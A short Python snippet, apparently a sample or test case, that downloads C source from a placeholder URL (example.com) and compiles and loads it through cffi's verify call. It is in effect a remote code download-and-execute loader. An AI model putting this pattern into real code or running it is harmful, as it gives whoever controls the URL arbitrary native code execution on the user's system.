import cffi
import urllib.request

ffi = cffi.FFI()
lib = ffi.verify(urllib.request.urlopen("https://example.com/x").read().decode())
